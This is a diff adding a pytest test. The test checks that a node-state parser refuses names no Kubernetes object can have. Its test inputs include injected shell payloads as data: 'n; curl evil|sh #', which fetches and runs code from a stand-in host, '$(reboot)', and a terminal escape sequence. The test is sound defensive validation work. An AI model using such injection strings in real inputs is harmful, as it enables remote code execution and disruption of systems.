@@ -263,3 +263,22 @@ def test_members_of_a_later_version_are_skipped() -> None:
     document = state_document(NodeState("node", "0" * 64, pods=(PodKey("a", "b"),)))
     document["spec"]["later"] = document["spec"]["pods"][0]["later"] = 1
     assert state_of(document).pods == (PodKey("a", "b"),)
+
+
+@pytest.mark.parametrize(
+    ("node", "namespace", "pod", "place"),
+    [
+        ("n; curl evil|sh #", "a", "b", "NodeState: metadata.name: 'n; curl evil|sh #'"),
+        ("n", "\x1b[2J", "b", "NodeState n: spec.pods[0].namespace: "),
+        ("n", "a", "$(reboot)", "NodeState n: spec.pods[0].name: '$(reboot)'"),
+    ],
+)
+def test_a_state_with_a_name_that_no_object_can_have_is_refused(
+    node: str, namespace: str, pod: str, place: str
+) -> None:
+    document = state_document(NodeState("node", "0" * 64, pods=(PodKey(namespace, pod),)))
+    document["metadata"]["name"] = node
+    with pytest.raises(InputError) as caught:
+        state_of(document)
+    assert str(caught.value).startswith(place)
+    assert "is not a valid name" in str(caught.value)
